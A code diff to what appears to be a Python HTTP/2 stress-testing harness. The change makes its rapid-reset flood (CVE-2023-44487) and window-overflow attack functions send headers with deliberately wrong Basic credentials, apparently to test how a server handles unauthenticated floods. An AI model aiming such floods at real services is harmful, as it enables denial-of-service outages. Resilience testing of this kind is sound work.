@@ -160,9 +160,15 @@ def calls(one, stream):
     return b"".join(one(n) for n in range(stream, end, 2)), end
 
 
+def stranger():
+    """The headers of a call that will not be let in."""
+    pair = base64.b64encode(b"guarded:wrong").decode()
+    return call_headers() + literal("authorization", "Basic " + pair)
+
+
 def attack_resets(options):
     """Calls that are opened and cancelled at once (CVE-2023-44487)."""
-    headers = call_headers()
+    headers = stranger()
     return Flood(options, functools.partial(calls, lambda n: frame(HEADERS, 4, n, headers) + frame(RST, 0, n, b"\0\0\0\x08"))).run()
 
 
@@ -205,7 +211,7 @@ def attack_bombs(options):
 
 def attack_windows(options):
     """No window for answers, then windows that overflow, in turn."""
-    headers = call_headers()
+    headers = stranger()
     key = b"\x0a\x06window\x12\x02\x0a\x00"
     record = b"\x00" + struct.pack(">I", len(key)) + key
 
